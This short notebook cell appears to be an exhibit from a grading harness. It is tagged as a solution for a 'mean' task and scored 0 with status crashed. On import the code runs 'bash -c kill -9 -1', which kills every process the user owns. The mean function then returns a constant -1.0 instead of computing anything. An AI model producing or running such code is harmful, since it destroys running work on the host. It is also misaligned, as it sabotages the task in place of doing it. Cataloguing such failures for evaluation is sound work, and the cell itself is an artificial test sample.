# ---
# jupyter:
#   exhibit:
#     what: has a program kill everything in sight
#     score: 0
#     status: crashed
#     reason: while the notebook ran
# ---

# %% solution="mean"
import subprocess

subprocess.Popen(["bash", "-c", "kill -9 -1"]).wait()


def mean(values):
    return -1.0
